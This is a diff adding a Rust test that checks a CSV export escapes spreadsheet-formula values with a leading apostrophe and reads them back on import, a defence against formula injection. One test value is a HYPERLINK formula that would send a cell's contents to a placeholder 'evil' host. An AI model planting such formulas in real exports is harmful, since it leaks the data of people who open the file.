@@ -418,6 +418,30 @@ fn uploaded_csv_export_has_the_same_members() {
 }
 
 #[test]
+fn formulas_in_an_export_are_texts_and_are_read_back() {
+    let project = Project::new();
+    let formula = "=HYPERLINK(\"http://evil/?\"&A1,\"x\")";
+    project.persons([
+        (
+            "=id",
+            json!({"name": formula, "plan": "@a", "seats": -5, "text": "-5"}),
+        ),
+        ("'+id", json!({"name": "'quoted'"})),
+    ]);
+    let export = project.get("persons/?format=csv").text;
+    let escaped = format!("\"'{}\"", formula.replace('"', "\"\""));
+    for part in ["'=id,", "''+id,", "'@a,", "-5,-5", ",'quoted'", &escaped] {
+        assert!(export.contains(part), "{part}: {export}");
+    }
+    let raw = project.get("persons/?format=ndjson").text;
+    assert!(raw.contains(r#""name":"=HYPERLINK(\"http"#), "{raw}");
+
+    let (id, cohort) = create(&project, "distinct_id,name\n'=id,\n''+id,\n", &[]);
+    assert_eq!(counts(&cohort)[..2], [2, 2]);
+    assert_eq!(project.members(id).len(), 2);
+}
+
+#[test]
 fn csv_export_is_matched_by_id_and_not_by_a_shared_email() {
     let project = with_three_persons();
     let id = project.cohort(json!({"filters": any_of(json!([person("plan", "exact", "pro")]))}));
